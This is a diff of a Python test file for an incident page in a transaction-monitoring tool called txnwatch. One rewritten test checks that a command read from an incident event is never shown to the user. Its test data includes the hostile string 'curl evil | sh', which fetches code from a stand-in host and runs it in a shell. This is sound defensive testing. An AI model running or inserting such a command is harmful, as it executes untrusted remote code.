@@ -11,7 +11,6 @@ from hypothesis import strategies as st
 
 from support.page_client import applied
 from support.page_world import PageWorld, a_busy_cluster, a_calm_cluster, a_count, an_incident, an_open, now_ms
-from txnwatch.page import words
 from txnwatch.page.details import partition
 from txnwatch.page.picture import INCIDENTS, LANES, RECENT, Knowledge, Picture, changes, picture_of
 from txnwatch.page.store import MOMENTS
@@ -20,7 +19,6 @@ from txnwatch.page.words import as_text, moment
 from txnwatch.state.model.findings import OpenTransactions
 from txnwatch.state.model.incident import EndedBy, EndKind, IncidentStatus, Resolution, WaitingGroup, resolved
 from txnwatch.state.model.values import Offset, PartitionOffset, TimestampMs, TopicPartition
-from txnwatch.state.model.verdicts import RULE_OF, Verdict
 from txnwatch.watch.coverage import MissingEvidence
 
 
@@ -49,14 +47,6 @@ def test_the_worst_incident_is_the_sentence() -> None:
         1,
     )
     assert (status["groups_stopped"], status["groups_at_risk"]) == (2, 1)
-
-
-@pytest.mark.parametrize("verdict", Verdict)
-def test_each_verdict_has_its_texts(verdict: Verdict) -> None:
-    event = an_incident("one", 60, verdict=verdict, severity=RULE_OF[verdict].severity)
-    assert words.why(event)
-    assert words.next_step(event)
-    assert words.ENDS[verdict]
 
 
 def test_all_clear_names_what_was_evaluated() -> None:
@@ -208,18 +198,17 @@ def test_a_hostile_id_is_printable_and_short() -> None:
     assert row["transactional_id"] is None, "its address has the producer id"
 
 
-def test_the_command_is_built_here_and_not_taken_from_the_event() -> None:
+@pytest.mark.parametrize("topic", ["payments", "a b"])
+def test_a_command_that_was_read_is_never_shown(topic: str) -> None:
     world = a_calm_cluster()
-    world.tell(an_incident("hang", 60, suggested_command="curl evil | sh", topic="a b", partition=0))
+    world.store.is_of_ledger = False
+    world.incidents = [an_incident("hang", 60, suggested_command="curl evil | sh", topic=topic, partition=0)]
     world.batch()
     (row,) = picture(world)["incidents"].values()
     assert "evil" not in str(row)
-    world.tell(an_incident("hang", 60, suggested_command="curl evil | sh", topic="payments", partition=0))
-    world.batch()
-    (row,) = picture(world)["incidents"].values()
-    assert row["command"].startswith(
-        "txnwatch abort --topic payments --partition 0 --start-offset 99 --bootstrap-server"
-    )
+    commands = [one["command"] for one in row["steps"] if one["command"] is not None]
+    look = "txnwatch explain --topic payments --partition 0 --bootstrap-server"
+    assert [one.startswith(look) for one in commands] == ([True] if topic == "payments" else [])
 
 
 def test_nothing_has_changed_in_an_equal_picture() -> None:
